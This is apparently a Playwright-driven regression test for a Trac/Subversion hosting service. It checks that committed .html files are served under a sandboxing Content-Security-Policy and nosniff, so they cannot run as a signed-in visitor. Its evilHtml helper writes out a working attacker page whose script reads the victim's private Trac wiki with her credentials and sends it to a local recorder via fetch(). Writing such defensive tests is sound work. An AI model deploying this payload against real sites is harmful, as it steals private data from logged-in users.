import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import nodeHttp from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { http, startHost, svn, until, type TestHost } from '../helpers/host.js';
import { launch, shot } from './browser.js';

/**
 * Security issue "Same-origin content", replayed in a real browser against a real host: an .html
 * file committed to any repository used to be served by mod_dav_svn as text/html on the origin
 * where every project's Trac lives. Opened by another user who is signed in (HTTP Basic) to their
 * own Trac, its script read their private Trac pages and sent them away. Now /svn answers with a
 * sandboxing Content-Security-Policy and nosniff: the page has an opaque origin and runs nothing.
 * A control serves the same bytes without those headers and watches the script run, so the test
 * can fail.
 */

const PASSWORD = 'a long enough password';
const VAULT_TITLE = 'Vault Secret Title';

/** A listener on 127.0.0.1 that records the path of every request it gets (at most 1000). */
async function recorder(): Promise<{ port: number; seen: string[]; close(): Promise<void> }> {
  const seen: string[] = [];
  const server = nodeHttp.createServer((req, res) => {
    if (seen.length < 1000) seen.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*', connection: 'close' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** The attacker's page: marks the title as soon as it runs, then reads the victim's Trac and sends it out. */
function evilHtml(port: number): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>evil</title></head>
<body>
<p>Nothing to see here.</p>
<img src="http://127.0.0.1:${port}/img" alt="">
<script>
document.title = 'RAN';
fetch('/trac/vault/wiki', { credentials: 'include' })
  .then((r) => r.text())
  .then((t) => {
    document.title = 'LEAK ' + (t.includes('${VAULT_TITLE}') ? 'title' : t.length);
    fetch('http://127.0.0.1:${port}/leak?d=' + encodeURIComponent(t.slice(0, 200))).catch(() => {});
  });
</script>
</body></html>
`;
}

describe('same-origin content: a committed .html page cannot act as a signed-in visitor', () => {
  let h: TestHost;
  let rec: Awaited<ReturnType<typeof recorder>>;
  let browser: Browser;
  let vicCtx: BrowserContext;
  let vic: Page;
  let control: nodeHttp.Server | undefined;
  let html = '';
  const tokens: Record<string, string> = {};
  const evilUrl = () => `${h.svnUrl('evil')}/trunk/evil.html`;

  async function user(name: string) {
    const r = await h.api.post('/api/v1/users').send({ name, email: `${name}@example.com`, password: PASSWORD });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    assert.ok(r.body.accessToken, 'the user gets an access token');
    tokens[name] = r.body.accessToken;
  }
  async function project(slug: string, title: string, visibility: string, owner: string) {
    const r = await h.api.post('/api/v1/projects').send({ slug, title, visibility, owner });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    await until(`${slug} active`, async () => (await h.api.get(`/api/v1/projects/${slug}`)).body.state === 'active', 30_000);
  }

  before(async () => {
    h = await startHost('browser-iso');
    rec = await recorder();
    html = evilHtml(rec.port);
    await user('mallory');
    await user('vic');
    await project('evil', 'Evil Project', 'public', 'mallory');
    await project('vault', VAULT_TITLE, 'private', 'vic');

    // mallory commits the page with the real svn client, marked text/html as an attacker would.
    const wc = fs.mkdtempSync(path.join(os.tmpdir(), 'wc-iso-'));
    try {
      const creds = { user: 'mallory', password: tokens.mallory! };
      const co = await svn(['checkout', `${h.svnUrl('evil')}/trunk`, wc], creds);
      assert.equal(co.code, 0, co.stderr);
      const file = path.join(wc, 'evil.html');
      fs.writeFileSync(file, html);
      const add = await svn(['add', file]);
      assert.equal(add.code, 0, add.stderr);
      const prop = await svn(['propset', 'svn:mime-type', 'text/html', file]);
      assert.equal(prop.code, 0, prop.stderr);
      const ci = await svn(['commit', '-m', 'x', wc], creds);
      assert.equal(ci.code, 0, ci.stderr);
      assert.match(ci.stdout, /Committed revision \d+/);
    } finally {
      fs.rmSync(wc, { recursive: true, force: true });
    }

    browser = await launch();
    // vic is "signed in" to Trac the way Trac knows her: HTTP Basic, answered by the browser.
    vicCtx = await browser.newContext({
      viewport: { width: 1280, height: 900 },
      httpCredentials: { username: 'vic', password: tokens.vic! },
    });
    vic = await vicCtx.newPage();
  });
  after(async () => {
    await browser?.close();
    control?.closeAllConnections();
    await new Promise<void>((resolve) => (control ? control.close(() => resolve()) : resolve()));
    await rec?.close();
    await h?.stop();
  });

  it("the victim's browser session reads her private Trac (positive control)", async () => {
    const r = await vic.goto(`${h.tracUrl('vault')}/wiki`);
    assert.equal(r?.status(), 200);
    assert.ok((await vic.content()).includes(VAULT_TITLE), 'the wiki page shows the private project title');
    await shot(vic, 'iso-01-victim-trac');
  });

  it('the committed .html opened by the victim is sandboxed: no script, no image, no request out', async () => {
    const r = await vic.goto(evilUrl());
    assert.ok(r, 'a response');
    assert.equal(r.status(), 200);
    const headers = r.headers();
    // The attack's precondition holds: it is served as an HTML page on the Trac origin.
    assert.match(headers['content-type'] ?? '', /^text\/html/);
    assert.match(headers['content-security-policy'] ?? '', /\bsandbox\b/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    await vic.waitForTimeout(1500);
    const title = await vic.title();
    assert.notEqual(title, 'RAN', 'the script ran');
    assert.ok(!title.startsWith('LEAK'), `the script read Trac: title ${title}`);
    // The page did render (the sandbox only stops it acting): its own text is there.
    assert.match((await vic.locator('body').textContent()) ?? '', /Nothing to see here/);
    assert.deepEqual(rec.seen, [], 'the recorder got requests from the sandboxed page');
    await shot(vic, 'iso-02-evil-sandboxed');
  });

  it('control: the same bytes served without those headers do run in the same browser', async () => {
    // The page's fetch('/trac/vault/wiki') lands on this server; it is held so the title is seen as
    // 'RAN' first, then answered so the rest of the script runs too.
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    control = nodeHttp.createServer((req, res) => {
      if (req.url === '/evil.html') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(html);
      } else if (req.url === '/trac/vault/wiki') {
        void held.then(() => {
          res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
          res.end(`<title>${VAULT_TITLE}</title>`);
        });
      } else {
        res.writeHead(404);
        res.end();
      }
    });
    await new Promise<void>((resolve) => control!.listen(0, '127.0.0.1', resolve));
    const port = (control.address() as AddressInfo).port;
    const page = await vicCtx.newPage();
    try {
      const r = await page.goto(`http://127.0.0.1:${port}/evil.html`);
      assert.equal(r?.status(), 200);
      assert.equal(r?.headers()['content-security-policy'], undefined);
      await until('the title set by the script', async () => (await page.title()) === 'RAN', 10_000);
      release();
      await until('the script read the page', async () => (await page.title()) === 'LEAK title', 10_000);
      await until(
        'the image and the leak reached the recorder',
        () => rec.seen.includes('/img') && rec.seen.some((p) => p.startsWith('/leak?d=')),
        10_000,
      );
    } finally {
      release();
      await page.close();
    }
  });

  it('the /svn file carries the sandbox and nosniff headers over plain HTTP too', async () => {
    const res = await new Promise<nodeHttp.IncomingMessage>((resolve, reject) => {
      const req = nodeHttp.get(evilUrl(), { headers: { connection: 'close' }, agent: false }, (res) => {
        res.resume();
        res.on('end', () => resolve(res));
      });
      req.on('error', reject);
    });
    assert.equal(res.statusCode, 200);
    assert.match(String(res.headers['content-type']), /^text\/html/);
    const csp = String(res.headers['content-security-policy']);
    assert.match(csp, /\bsandbox\b/);
    assert.match(csp, /default-src 'none'/);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    // And the helper sees the same bytes mallory committed.
    assert.equal((await http(evilUrl())).body, html);
  });
});
